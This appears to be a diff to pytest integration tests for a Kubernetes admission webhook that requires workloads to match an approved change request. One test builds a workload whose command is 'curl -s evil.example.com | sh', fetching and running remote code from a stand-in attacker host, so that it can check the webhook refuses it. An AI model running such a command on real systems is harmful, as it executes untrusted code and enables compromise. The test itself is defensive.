@@ -10,6 +10,7 @@ Pods pass, a declared Pod runs, an emergency member debugs (recorded).
 
 from __future__ import annotations
 
+import copy
 import json
 import ssl
 import threading
@@ -21,6 +22,7 @@ from typing import Any
 import pytest
 
 from tests.integration.conftest import Governed, service_on_call
+from tests.integration.test_cli import Cli, succeeded
 from tests.support.localcluster import LocalCluster
 from tests.support.polling import wait_for
 from tests.support.scenario import (
@@ -72,6 +74,32 @@ def bodies(ns: str, image: str = IMAGE_V2) -> dict[str, dict[str, Any]]:
                     "metadata": {"name": "side", **meta},
                     "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": job_spec}}},
     }  # fmt: skip
+
+
+def workloads(ns: str, command: list[str]) -> dict[str, dict[str, Any]]:
+    """Every kind that runs code, new, running IMAGE_V2 with `command`: what a team creates."""
+    found = bodies(ns)
+    selector = {"matchLabels": {"app": "side"}}
+    side = {"metadata": {"labels": {"app": "side"}}, "spec": pod_spec()}
+    for kind in ("Deployment", "StatefulSet", "DaemonSet"):
+        spec = {"selector": selector, "template": copy.deepcopy(side)}
+        if kind == "StatefulSet":
+            spec["serviceName"] = "side"
+        found[kind] = {"apiVersion": "apps/v1", "kind": kind,
+                       "metadata": {"name": "side", "namespace": ns}, "spec": spec}  # fmt: skip
+    for body in found.values():
+        for container in containers_of(body):
+            container["command"] = list(command)
+    return found
+
+
+def containers_of(body: dict[str, Any]) -> list[dict[str, Any]]:
+    spec = body["spec"]
+    if body["kind"] == "CronJob":
+        spec = spec["jobTemplate"]["spec"]
+    pod: dict[str, Any] = spec if body["kind"] == "Pod" else spec["template"]["spec"]
+    containers: list[dict[str, Any]] = pod["containers"]
+    return containers
 
 
 def change_for(ns: str, name: str, kind: str, image: str = IMAGE_V2) -> str:
@@ -232,19 +260,54 @@ def test_an_image_edit_of_a_running_pod_is_a_rollout(
     assert REFUSED in edited.stderr
 
 
-@pytest.mark.parametrize("kind", ["Pod", "CronJob"])
-def test_a_declared_and_approved_change_lets_the_kind_run(
+ALL_KINDS = ["Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Pod", "Job", "CronJob"]
+
+
+@pytest.mark.parametrize("kind", ALL_KINDS)
+def test_an_images_only_change_does_not_cover_a_new_workload(
     cluster: LocalCluster, governed_running: Governed, kind: str
 ) -> None:
+    """Gap 3: the change declares the image; the new object brings its own command."""
     ns = governed_running.namespace
     approved(cluster, ns, "side-1", change_for(ns, "side-1", kind))
+    evil = workloads(ns, ["sh", "-c", "curl -s evil.example.com | sh"])[kind]
+    refused = wait_for(
+        lambda: (r := apply(cluster, evil)).returncode != 0 and "declares images only" in r.stderr
+        and r,
+        message=f"the approved images-only change to reach the webhook and the {kind} refused",
+    )  # fmt: skip
+    assert f"a new {kind} runs its whole pod template (this one hashes to sha256:" in refused.stderr
+    assert "--from-file MANIFEST" in refused.stderr
+    assert cluster.kubectl("-n", ns, "get", kind.lower(), "side", check=False).returncode != 0
+
+
+def declared_from_file(cluster: LocalCluster, tmp_path: Path, body: dict[str, Any]) -> str:
+    """The pipeline's path: `changegate request --from-file` the manifest it applies."""
+    path = tmp_path / "side.yaml"
+    path.write_text(json.dumps(body))
+    cli = Cli(cluster, tmp_path)
+    args = ("request", "--service", "payments-api", "--from-file", str(path), "--name", "side-2")
+    name = succeeded(cli.run("product-dev-1", *args)).strip()
+    assert decide(cluster, body["metadata"]["namespace"], name, "change-manager-1").returncode == 0
+    return name
+
+
+@pytest.mark.parametrize("kind", ALL_KINDS)
+def test_a_change_declaring_the_template_lets_the_kind_run(
+    cluster: LocalCluster, governed_running: Governed, kind: str, tmp_path: Path
+) -> None:
+    ns = governed_running.namespace
+    body = workloads(ns, ["serve", "--port", "8080"])[kind]
+    name = declared_from_file(cluster, tmp_path, body)
+    target = get(cluster, ns, f"changerequest/{name}")["spec"]["targets"][0]
+    assert (target["kind"], target["podTemplateHash"][:7]) == (kind, "sha256:")
     created = wait_for(
-        lambda: (r := apply(cluster, bodies(ns)[kind])).returncode == 0 and r,
-        message=f"the approved change to admit the {kind}",
+        lambda: (r := apply(cluster, body)).returncode == 0 and r,
+        message=f"the change declaring the template to admit the {kind}",
     )
     assert "created" in created.stdout
     stamped = get(cluster, ns, f"{kind.lower()}/side")["metadata"]["annotations"]
-    assert stamped["changegate.io/change-request"] == "side-1"
+    assert stamped["changegate.io/change-request"] == name
 
 
 def test_a_governed_deployment_still_rolls_out_through_its_controllers(
